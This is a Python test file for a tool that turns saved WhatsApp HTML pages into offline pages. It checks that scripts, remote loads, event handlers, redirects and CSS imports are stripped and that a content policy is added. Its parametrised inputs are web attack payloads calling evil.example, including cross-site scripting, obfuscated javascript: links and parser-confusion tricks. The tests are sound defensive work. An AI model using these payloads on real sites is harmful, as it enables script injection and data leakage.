"""A page made offline names no other machine, runs nothing, and shows what it showed."""

from __future__ import annotations

import io
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from wafs.errors import UserError
from wafs.whatsapp.index_page import index_page
from wafs.whatsapp.offline_page import POLICY, PageFacts, make_offline

LOADING = {"src", "srcset", "poster", "background", "data", "action", "formaction", "data-src", "xlink:href", "ping"}
HEAD_TAGS = {"html", "head", "meta", "title"}


def offline(page: str | bytes) -> str:
    target = io.BytesIO()
    make_offline(io.BytesIO(page.encode() if isinstance(page, str) else page), target)
    return target.getvalue().decode("utf-8", "surrogateescape")


class Remote(HTMLParser):
    """Collects what would be loaded or run without a click."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("script", "link", "iframe", "object", "embed", "frame", "applet"):
            self.found.append(tag)
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(name)
            loads = name in LOADING or (name == "href" and tag not in ("a", "area"))
            if loads and re.match(r"([a-z+]+:)?[/\\]{2}", re.sub(r"\s", "", value or ""), re.IGNORECASE):
                self.found.append(f"{name}={value}")
            if "javascript:" in re.sub(r"\s", "", value or "").lower():
                self.found.append(f"{name}={value}")


def remote_of(page: str) -> list[str]:
    finder = Remote()
    finder.feed(page)
    finder.close()
    return finder.found


@pytest.mark.parametrize(
    "harm",
    [
        '<script src="https://cdn.example/x.js"></script>',
        "<script>fetch('https://evil.example')</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<script src=x />alert(1)</script>",
        '<link rel="stylesheet" href="https://css.example/w3.css">',
        '<link rel="stylesheet" href="https://css.example/w3.css"/>',
        '<img src="http://evil.example/x.png">',
        '<img src="//evil.example/x.png">',
        '<img src="\\\\evil.example\\x.png">',
        '<img src=" h\nttps://evil.example/x.png">',
        '<img src="x.png" onerror="alert(1)">',
        '<img srcset="x.png 1x, https://evil.example/x.png 2x">',
        '<video poster="https://evil.example/x.png"></video>',
        '<svg><image xlink:href="https://evil.example/x.svg"/></svg>',
        '<a href="javascript:alert(1)">x</a>',
        '<a href="java\tscript:alert(1)">x</a>',
        '<a href="#x" ping="https://evil.example">x</a>',
        '<form action="https://evil.example"><button formaction="https://evil.example">x</button></form>',
        '<iframe src="https://evil.example"></iframe>',
        '<iframe srcdoc="<script>x</script>"></iframe>',
        '<object data="https://evil.example"></object>',
        '<embed src="https://evil.example">',
        '<body background="https://evil.example/x.png">',
        "<!--[if IE]><script src=https://evil.example></script><![endif]-->",
    ],
)
def test_what_loads_or_runs_is_gone(harm: str) -> None:
    assert remote_of(harm) or harm.startswith(("<!--", '<img srcset="x', "<iframe srcdoc"))
    page = offline(f"<html><head><title>t</title></head><body><p>before</p>{harm}<p>after</p></body></html>")
    assert remote_of(page) == []
    assert "evil.example" not in page
    assert "<p>before</p>" in page
    assert "<p>after</p>" in page
    assert page.count("Content-Security-Policy") == 1


def test_the_policy_comes_before_everything_and_the_character_set_before_that() -> None:
    for page in ("<html><head><title>x</title></head>", "<p>no head", "<html><body><img src=x>", "<title>x</title>"):
        tags = re.findall(r"<([a-z]+)", offline(page))
        assert tags[: tags.index("meta")] in ([], ["html"], ["html", "head"])
        text = offline(page)
        assert text.index("charset") < text.index(POLICY) < 1024


def test_a_page_cannot_send_the_browser_elsewhere() -> None:
    page = offline(
        '<head><meta http-equiv="refresh" content="0;url=https://evil.example"><meta charset="UTF-8"></head>'
    )
    assert "evil.example" not in page
    assert '<meta charset="UTF-8">' in page


REFRESH = '<meta http-equiv="refresh" content="0;url=https://evil.example">'


@pytest.mark.parametrize(
    "harm",
    [
        f"<title><style></title>{REFRESH}</style>",
        f"<svg><style>{REFRESH}</style></svg>",
        f"<textarea><style></textarea>{REFRESH}</style>",
        f"<noscript><style></noscript>{REFRESH}</style>",
        "<meta x==' http-equiv=refresh content=0;url=//evil.example '>",
        '<img x==" onerror=fetch(1) ">',
        '<style>@import "//evil.example"</style>',
        "<p style='background:u\\72l(//evil.example)'>",
        "<p style=\"background:image-set('//evil.example' 1x)\">",
        '<svg><rect fill="url(//evil.example/#x)"/></svg>',
        '<svg><image><set attributeName="href" to="//evil.example"/></image></svg>',
    ],
)
def test_what_a_browser_would_read_otherwise_is_gone(harm: str) -> None:
    page = offline(f"<html><head></head><body>{harm}<p>after</p></body></html>")
    # Every tag is written in one way, and nothing else has a `<`.
    tags = re.findall(r'<(/?[a-z0-9]+(?: [a-z0-9:-]+(?:="[^"<>]*")?)*/?)>', page)
    assert len(tags) == page.count("<")
    assert [tag for tag in tags if "refresh" in tag.split(" x=")[0] or " onerror" in tag.split(" x=")[0]] == []
    assert [tag for tag in tags if "evil" in tag and not tag.startswith("meta x=")] == []
    assert "@import" not in page
    assert page.endswith("<p>after</p></body></html>")


def test_the_policy_is_in_the_head_whatever_comes_first() -> None:
    for page in ("text<html><head></head>", "</br><html><head></head>", "&amp;<head>"):
        assert offline(page).startswith("\n<meta charset")


def test_a_base_does_not_hide_another_machine() -> None:
    for base in ("/\t/evil.example/", "ht\ttps://evil.example/"):
        assert "evil.example" not in offline(f'<head><base href="{base}"></head><img src="x.png">')


def test_drawings_and_styles_stay() -> None:
    page = offline("<style>p > a { color: red }</style><svg viewBox='0 0 1 1'><path fill='url(#a)'/><path/></svg>")
    assert '<style>p > a { color: red }</style><svg viewbox="0 0 1 1"><path fill="url(#a)"/><path/></svg>' in page


def test_text_and_links_stay_as_they_were() -> None:
    body = (
        '<p class="a  b">1 &lt; 2 &amp; \u2713 \U0001f44d</p>\n'
        '<a href="https://x.example/?a=1&amp;b=2" rel="noopener">x</a>'
    )
    page = offline(f"<!DOCTYPE html>\n<html><head></head><body>{body}</body></html>")
    assert page.startswith("<!DOCTYPE html>\n")
    assert body in page


def test_bytes_that_are_no_text_stay() -> None:
    assert b"<p>\xff\xfe</p>" in offline(b"<html><body><p>\xff\xfe</p>").encode("utf-8", "surrogateescape")


def test_videos_need_no_script() -> None:
    page = offline(
        '<video class="lazy" autobuffer controls><source type="video/mp4" data-src="WhatsApp/a &amp; b.mp4" />'
    )
    assert '<source type="video/mp4" src="WhatsApp/a &amp; b.mp4"/>' in page
    assert '<video class="lazy" controls preload="none">' in page


def test_links_within_a_page_with_a_base_lead_within_the_page() -> None:
    page = offline(
        '<head><base href="App/" target="_blank"></head><img src="Message/x.jpg">'
        '<a href="#key">y</a><a href="./z.pdf">z</a>'
    )
    assert '<base target="_blank">' in page
    assert '<img src="App/Message/x.jpg">' in page
    assert '<a href="#key">' in page
    assert '<a href="App/./z.pdf">' in page


def test_names_of_files_are_written_as_addresses() -> None:
    page = offline('<a href="./Docs/50% of #7?.pdf">x</a><img src="#"><a href="https://x.example/?a=1#b">y</a>')
    assert '<a href="./Docs/50%25 of %237%3F.pdf">x</a><img src="#"><a href="https://x.example/?a=1#b">y</a>' in page


def test_it_counts_messages_and_knows_the_title() -> None:
    message = '<div class="flex justify-end items-center group" id="A1">'
    tooltip = '<div class="relative group/tooltip">'
    source = io.BytesIO(f"<head><title>Whatsapp - A &amp; B</title></head>{message * 3}{tooltip}".encode())
    advanced: list[int] = []
    assert make_offline(source, io.BytesIO(), advanced.append) == PageFacts("Whatsapp - A & B", 3)
    assert sum(advanced) > 100
    assert not source.closed


def test_a_tag_without_an_end_is_refused() -> None:
    with pytest.raises(UserError, match="4 MiB"):
        offline("<p>" + '<img src="' + "x" * (5 << 20))


def test_a_comment_without_an_end_does_not_take_for_ever() -> None:
    with pytest.raises(UserError, match="ends within"):
        offline("<p>" + "<!--" * (1 << 17))


@given(st.text(alphabet="<>/=\"' &;!-abcsriptgonx:\n", max_size=200))
def test_nothing_harmful_comes_out_whatever_goes_in(text: str) -> None:
    page = offline(f'<html><body>{text}<script src="https://evil.example">')
    assert remote_of(page) == []


@given(st.lists(st.integers(1, 400), max_size=8), st.integers(0, 3))
def test_where_pieces_end_does_not_matter(lengths: list[int], seed: int) -> None:
    page = (
        '<html><head><script>a<b</script></head><body><img src="a.jpg" onload="x"><p>text &amp; more</p></body></html>'
        * 9
    )
    text = "".join(f"<p>{chr(97 + seed) * length}</p>" for length in lengths) + page

    class Trickle(io.BytesIO):
        def read1(self, size: int | None = -1) -> bytes:
            return super().read1(7)

        def read(self, size: int | None = -1) -> bytes:
            return super().read(7)

    target = io.BytesIO()
    make_offline(Trickle(text.encode()), target)
    assert target.getvalue().decode() == offline(text)


def test_the_index_lists_all_and_escapes_them() -> None:
    pages = [("b#1.html", PageFacts("Whatsapp - B <b>", 1200)), ("a.html", PageFacts("", 0))]
    text = index_page(pages).decode()
    assert remote_of(text) == []
    assert POLICY in text
    assert text.index('<a href="a.html">a</a></li>') < text.index(
        '<a href="b%231.html">B &lt;b&gt;</a> <span>1,200</span>'
    )
